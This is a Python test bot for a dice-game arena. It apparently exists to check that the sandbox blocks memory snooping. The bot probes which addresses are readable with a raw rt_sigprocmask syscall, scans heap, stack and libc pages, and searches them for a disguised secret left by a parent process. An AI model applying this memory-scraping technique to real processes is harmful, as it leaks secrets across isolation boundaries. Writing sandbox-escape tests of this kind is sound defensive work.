"""Reads its memory page by page, also what the zygote has left there, and looks for the secret.

Expected: blocked or crash
"""

import ctypes
import gc
import os

from arena.botkit import DUDO, Bid, Bot

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
RT_SIGPROCMASK = (14, 135)[("x86_64", "aarch64").index(os.uname().machine)]
EFAULT = 14
PAGE, FAR, AT_ONCE = 4096, 2000, 4000
# The secret of attack_stage.py. All is compared in disguise, so that it does not find itself.
DISGUISE = bytes(byte ^ 0x55 for byte in range(256))
WANTED = bytes(byte ^ 0x55 for byte in (97, 110, 32, 97, 116, 116, 97, 99, 107, 32, 115, 116, 97))


def readable(address):
    """The kernel reads eight bytes there before it finds that the rest makes no sense."""
    ctypes.set_errno(0)
    LIBC.syscall(RT_SIGPROCMASK, 99, ctypes.c_void_p(address), None, 8)
    return ctypes.get_errno() != EFAULT


def places():
    """Where to begin: the stack, the data of libc, a large object, every region with objects."""
    yield ctypes.c_void_p.in_dll(LIBC, "program_invocation_name").value or 0
    yield ctypes.addressof(ctypes.c_void_p.in_dll(LIBC, "environ"))
    yield id(b"x" * 10_000)
    yield from {id(thing) >> 20: id(thing) for thing in gc.get_objects()}.values()


def pages():
    seen = set()
    for place in places():
        for first, step in ((0, -PAGE), (PAGE, PAGE)):
            page = place // PAGE * PAGE + first
            for _ in range(FAR):
                if page in seen or not readable(page):
                    break
                seen.add(page)
                yield page
                page += step


PAGES = pages()


class HeapScan(Bot):
    def act(self, view):
        for _, page in zip(range(AT_ONCE), PAGES, strict=False):
            if WANTED in ctypes.string_at(page, PAGE).translate(DISGUISE):
                print("LEAK the secret at", hex(page))
        return DUDO if view.standing is not None else Bid(1, 2)
